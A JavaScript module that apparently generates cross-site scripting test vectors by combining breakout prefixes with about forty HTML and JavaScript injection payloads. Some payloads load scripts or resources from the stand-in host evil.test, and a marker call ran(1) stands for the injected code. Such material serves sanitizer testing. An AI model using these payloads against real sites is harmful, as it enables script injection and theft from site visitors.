// Words that would run a script, or ask another host, on a page that takes them for markup: what is to be run, in each
// way out of the place that words stand in. `ran(1)` is what runs, and evil.test is what is asked.

const payloads = [
  '<script>ran(1)</script>',
  '<ScRiPt >ran(1)</sCrIpT >',
  '<script src=http://evil.test/s.js></script>',
  '<img src=x onerror=ran(1)>',
  '<img/src="x"/onerror=ran(1)//',
  '<IMG """><SCRIPT>ran(1)</SCRIPT>">',
  '<img src=http://evil.test/p.png>',
  '<svg onload=ran(1)>',
  '<svg><script>ran(1)</script></svg>',
  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran(1)>#x">',
  '<math><mi xlink:href="javascript:ran(1)">x</mi></math>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<iframe src=http://evil.test/></iframe>',
  '<iframe src="javascript:parent.ran(1)"></iframe>',
  '<object data=http://evil.test/o></object>',
  '<embed src=http://evil.test/e>',
  '<link rel=stylesheet href=http://evil.test/c.css>',
  '<link rel=prefetch href=http://evil.test/f>',
  '<meta http-equiv=refresh content="0;url=http://evil.test/r">',
  '<base href=http://evil.test/>',
  '<style>@import "http://evil.test/i.css";</style>',
  '<style>*{background:url(http://evil.test/b)}</style>',
  '<body onload=ran(1)>',
  '<details open ontoggle=ran(1)>',
  '<input autofocus onfocus=ran(1)>',
  '<video src=x onerror=ran(1)></video>',
  '<video poster=http://evil.test/v></video>',
  '<audio src=http://evil.test/a autoplay></audio>',
  '<marquee onstart=ran(1)>x</marquee>',
  '<div hx-get="http://evil.test/h" hx-trigger="load">x</div>',
  '<div hx-on::load="ran(1)" hx-on:load="ran(1)" hx-trigger="load">x</div>',
  '<div data-hx-get="/work" data-hx-vals="js:{a: ran(1)}" data-hx-trigger="load">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
  '<template><img src=x onerror=ran(1)></template><form id=f><button form=f formaction=javascript:ran(1)>x',
  '<a href="javascript:ran(1)" autofocus onfocus=ran(1)>x</a>',
  '<x style="animation-name:x" onanimationstart=ran(1) tabindex=1 autofocus onfocus=ran(1)>',
  "{{constructor.constructor('ran(1)')()}}",
  '${ran(1)}',
  'javascript:ran(1)',
  'data:text/html,<script>parent.ran(1)</script>',
];

// What stands before it, to leave an element, an attribute, a script, a style, a comment, an address, or a decoder.
const ways = [
  '', '"', "'", '>', '">', "'>", '`', '/>', '</title>', '</textarea>', '</script>', '</style>', '</option></select>',
  '</a></p></li></div>', '-->', '--!>', ']]>', '<!--', '<![CDATA[', '\\"', "\\'", '&quot;>', '&#34;&#62;', '%22%3E',
  '+ADwAIgA+-', '\u00AD">', '\u2028', '" autofocus onfocus=ran(1) x="', "' autofocus onfocus=ran(1) x='", '"-ran(1)-"',
  "';ran(1)//", '</noscript>', '</template>', '</svg>', '</math><', '</iframe>', '\uFF1Cscript\uFF1Eran(1)\uFF1C/script\uFF1E',
  '<a href="', '<p title=`', 'x\n\n', '\t\v">', '<<', '<%00', '</ title>', '*/', '#', '?', '&lt;', '&amp;lt;', '<\u0000',
];

/** The first `count` of them, spread over all payloads and all ways. */
export function vectors(count) {
  const all = [];
  // A step that shares no divisor with the number of them comes past each once.
  const size = payloads.length * ways.length;
  for (let at = 0; all.length < Math.min(count, size); at = (at + 619) % size) {
    all.push(ways[at % ways.length] + payloads[Math.floor(at / ways.length)]);
  }
  return all;
}
